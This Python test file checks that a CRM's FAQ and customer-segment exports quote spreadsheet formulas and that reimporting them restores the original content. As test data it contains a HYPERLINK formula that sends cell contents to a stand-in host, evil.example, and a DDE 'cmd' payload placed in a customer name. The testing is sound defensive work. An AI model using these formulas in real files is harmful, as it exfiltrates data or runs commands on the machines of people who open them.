"""Exports never hand a spreadsheet a live formula; FAQ export -> import keeps content exactly (issue 15, finding 4)."""

from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from models import FaqEntry
from scrm.spreadsheet import safe_cell, unescape_cell
from tests.conftest import login_as
from tests.web.conftest import rows

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
TRICKY = {  # field -> a value starting with each character a spreadsheet would run
    "question": EVIL,
    "answer": "-5℃以下请冷藏；+86 热线见官网",
    "similar_questions": ["@营销 活动怎么参加", "+1 怎么算"],
    "category": "\t售后",
}


def _starts_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


class Supervisor:
    def __init__(self, client: Any, headers: dict[str, str]) -> None:
        self.client, self.headers = client, headers

    async def get(self, path: str) -> Any:
        return await self.client.get("/api/v1" + path)

    async def post(self, path: str, **kw: Any) -> Any:
        return await self.client.post("/api/v1" + path, headers=self.headers, **kw)


async def test_faq_exports_quote_formulas_and_import_restores_them(client: Any) -> None:
    supervisor = Supervisor(client, await login_as(client, "supervisor"))
    made = await supervisor.post("/admin/faqs", json={**TRICKY, "category": "售后"})
    assert made.status == 201, await made.text()
    faq_id = (await made.json())["id"]
    quoted = await supervisor.post("/admin/faqs", json={"question": "'引号开头的问题", "answer": "'-已是引号开头"})
    assert quoted.status == 201, await quoted.text()

    text = (await (await supervisor.get("/admin/faqs/export?format=csv")).read()).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    assert not [c for r in table for c in r if _starts_like_formula(c)]
    [mine] = [r for r in table if r[0] == str(faq_id)]
    assert mine[1] == "'" + EVIL and mine[3].startswith("'-5℃")
    assert mine[2] == "'@营销 活动怎么参加|+1 怎么算"

    xlsx = await (await supervisor.get("/admin/faqs/export?format=xlsx")).read()
    cells = [c for r in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in r]
    assert "f" not in {c.data_type for c in cells}  # no "f": nothing runs when the file is opened
    assert not [c.value for c in cells if _starts_like_formula(c.value)]

    before = {f.id: f.model_dump() for f in await rows(client, FaqEntry)}
    for fmt, body in (("csv", text.encode()), ("xlsx", xlsx)):
        again = await (await supervisor.post(f"/admin/faqs/import?format={fmt}", data=body)).json()
        assert (again["created"], again["updated"]) == (0, 0), (fmt, again)
    after = {f.id: f.model_dump() for f in await rows(client, FaqEntry)}
    assert after == before
    [entry] = await rows(client, FaqEntry, FaqEntry.id == faq_id)
    assert (entry.question, entry.answer, entry.similar_questions) == (
        EVIL, TRICKY["answer"], TRICKY["similar_questions"]
    )


async def test_segment_export_quotes_a_formula_in_a_customer_name(client: Any) -> None:
    admin = await login_as(client, "supervisor")
    await client.post("/api/v1/customers:bulk", headers=admin, json={"customers": [
        {"phone": "13900000001", "name": "=cmd|' /C calc'!A0", "region": "@上海"},
    ]})  # fmt: skip
    seg = await client.post("/api/v1/segments", headers=admin, json={"name": "全部", "conditions": {"true": True}})
    assert seg.status == 201, await seg.text()
    export = await client.get(f"/api/v1/segments/{(await seg.json())['id']}/export", headers=admin)
    table = list(csv.reader(io.StringIO((await export.read()).decode("utf-8-sig"))))
    assert table[1][1:5] == ["'=cmd|' /C calc'!A0", "13900000001", "", "'@上海"]
    assert not [c for r in table for c in r if _starts_like_formula(c)]


@given(st.text(max_size=20))
def test_unescape_restores_every_exported_value(value: str) -> None:
    assert unescape_cell(safe_cell(value)) == value
    assert not _starts_like_formula(safe_cell(value))
